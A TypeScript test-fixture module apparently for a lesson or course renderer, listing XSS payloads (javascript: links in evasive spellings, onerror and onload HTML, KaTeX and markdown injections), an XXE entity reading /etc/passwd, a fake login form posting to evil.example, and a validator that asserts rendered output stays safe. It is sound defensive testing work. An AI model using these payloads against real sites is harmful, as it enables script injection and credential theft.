import { expect } from 'vitest';

/** A hostile text as a model, a learner or the author of a shared course could write it, and the kind of attack. */
type UnsafeText = { kind: string; text: string };

/** A link's scheme in spellings that filters tend to miss. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&#x200b;:alert(1)',
  'javascript:alert(1)//https://example.org/',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,%3Csvg%20onload=alert(1)%3E',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  'filesystem:https://example.org/x',
  'about:blank',
  'view-source:https://example.org',
  'intent://example.org#Intent;end',
  'lesson:javascript:alert(1)',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  'https:/\\evil.example@x',
] as const;

const links: UnsafeText[] = addresses.flatMap((address) => [
  { kind: `link to ${JSON.stringify(address)}`, text: `[press me](<${address}>)` },
  { kind: `reference to ${JSON.stringify(address)}`, text: `[press me][1]\n\n[1]: <${address}>` },
  { kind: `autolink of ${JSON.stringify(address)}`, text: `<${address}> ${address}` },
  { kind: `picture of ${JSON.stringify(address)}`, text: `![seen](<${address}>)` },
]);

const html = [
  '<script>window.hit = 1</script>',
  '<scr<script>ipt>window.hit = 1</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png" srcset="https://evil.example/q.png 2x">',
  '<svg onload=alert(1)><script>window.hit = 1</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<a href="javascript:alert(1)" onclick="alert(1)">press me</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Log in</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>*{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0" onmouseover=alert(1) class="mantine-Button-root" id="root">over it all</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video autoplay><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '"><img src=x onerror=alert(1)><"',
  "' onfocus=alert(1) autofocus tabindex=0 '",
].map((text) => ({ kind: `HTML ${text.slice(0, 28)}`, text: `Before ${text} after` }));

const formulas = [
  '\\href{javascript:alert(1)}{x}',
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/p.png}',
  '\\htmlData{hit=1}{x}',
  '\\htmlClass{mantine-Button-root}{x}',
  '\\htmlId{root}{x}',
  '\\htmlStyle{position:fixed}{x}',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\def\\a{\\a\\a}\\a',
  '\\unicode{x3c}script\\unicode{x3e}',
  '\\rule{9999em}{9999em}',
  '\\color{url(https://evil.example)}{x}',
].map((text) => ({ kind: `formula ${text.slice(0, 24)}`, text: `$${text}$\n\n$$\n${text}\n$$` }));

const others: UnsafeText[] = [
  { kind: 'remote picture', text: '![pixel](https://evil.example/p.gif "seen")' },
  { kind: 'remote picture without a scheme', text: '![pixel](//evil.example/p.gif)' },
  { kind: 'figure that climbs out', text: '![x](/library-figures/../api/profile)' },
  { kind: 'picture of our own interfaces', text: '![x](/api/account/data)' },
  { kind: 'linked picture', text: '[![x](https://evil.example/p.gif)](javascript:alert(1))' },
  { kind: 'fence that closes its element', text: '```js\n</code></pre><script>window.hit = 1</script>\n```' },
  { kind: 'fence of HTML', text: '```html\n<img src=x onerror=alert(1)>\n```' },
  { kind: 'language with a quote', text: '```"><script>window.hit=1</script>\nx\n```' },
  { kind: 'code in a line', text: '`<script>window.hit = 1</script>`' },
  {
    kind: 'table with HTML',
    text: '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| [x](javascript:alert(1)) | 2 |',
  },
  { kind: 'anchor that takes an id of the page', text: '## Root {#root}\n\n[up](#root)' },
  { kind: 'footnote that takes an id', text: 'x[^root]\n\n[^root]: <script>window.hit = 1</script>' },
  {
    kind: 'directive with attributes',
    text: ':::solution{onclick=alert(1) id=root style="x"}\nx\n:::\n\n:a[b]{onclick=alert(1)}',
  },
  ...[
    '{"id":"a","kind":"predict","prompt":"<script>window.hit = 1</script>"}',
    '{"__proto__":{"hit":1},"onclick":"alert(1)","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
    '</code></pre><script>window.hit = 1</script>',
    '"><img src=x onerror=alert(1)>',
  ].map((source, place) => ({
    kind: `block ${place}`,
    text: `:::predict{#a onclick=alert(1) class=mantine-Button-root}\n\`\`\`json\n${source}\n\`\`\`\n:::`,
  })),
  { kind: 'block in words', text: '<lectern-block data-id="root" onclick="alert(1)">x</lectern-block>' },
  { kind: 'block whose id takes one of the page', text: ':::try{#root}\n:::' },
  { kind: 'block that is not closed', text: ':::code{#a}\n```json\n<script>window.hit = 1</script>' },
  { kind: 'title of a link', text: '[x](https://example.org "\\" onmouseover=alert(1) \\"")' },
  { kind: 'address with a quote', text: '[x](https://example.org/"onmouseover="alert(1))' },
  {
    kind: 'good link',
    text: '[a page](https://example.org/page) and https://example.org and me@example.org',
  },
  { kind: 'text that is written backwards', text: '\u202egnp.exe\u202c <script>window.hit = 1</script>' },
];

export const unsafeTexts: UnsafeText[] = [...links, ...html, ...formulas, ...others];

/** Some of each kind in one text, for tests that render once; `mark` shows that the text was rendered at all. */
export const unsafeText = (mark: string): string =>
  [
    mark,
    ...[0, 6, 13].map((place) => `[press me](<${addresses[place]}>)`),
    ...[0, 2, 4, 8, 12].map((place) => html[place]?.text),
    ...[0, 4, 9, 12].map((place) => others[place]?.text),
    formulas[0]?.text,
  ].join('\n\n');

/** The same kinds on one line, for titles and names. */
export const unsafeLine = (mark: string): string =>
  `${mark} <script>window.hit = 1</script> "><img src=x onerror=alert(1)> [x](javascript:alert(1)) ![p](https://evil.example/p.gif) </title>`;

const forbidden =
  'script, iframe, object, embed, base, meta, frame, applet, template, portal, foreignObject, animate, set, video, audio, source, mglyph';

const followed = new Set(['http:', 'https:', 'mailto:']);

function problemsOf(element: Element): string[] {
  const here = `<${element.tagName.toLowerCase()}`;
  return [...element.attributes].flatMap(({ name, value }) => {
    const at = `${here} ${name}="${value}">`;
    if (/^on/i.test(name)) return [at];
    if (['srcset', 'srcdoc', 'action', 'formaction', 'ping', 'background', 'data'].includes(name))
      return [at];
    if (name === 'style') return /url\(|expression|position:\s*fixed/i.test(value) ? [at] : [];
    if (name === 'src') return /^\/(library-figures|screenshots)\/[\w./-]+$/.test(value) ? [] : [at];
    if (name !== 'href' && name !== 'xlink:href') return [];
    if (/^#/.test(value) && element.tagName.toLowerCase() === 'use') return [];
    if (!URL.canParse(value, 'https://page.example/')) return [at];
    const url = new URL(value, 'https://page.example/');
    if (!followed.has(url.protocol)) return [at];
    const leaves = url.origin !== 'https://page.example' && url.protocol !== 'mailto:';
    const rel = element.getAttribute('rel') ?? '';
    return leaves && !(rel.includes('noopener') && rel.includes('noreferrer')) ? [`${at} without rel`] : [];
  });
}

/**
 * Asserts that nothing below `root` runs, loads from other origins, links to anything but pages, or imitates a part
 * of the page.
 */
export function expectSafe(root: ParentNode): void {
  expect([...root.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML)).toEqual([]);
  expect([...root.querySelectorAll('*')].flatMap(problemsOf)).toEqual([]);
  expect((window as { hit?: number }).hit).toBeUndefined();
}
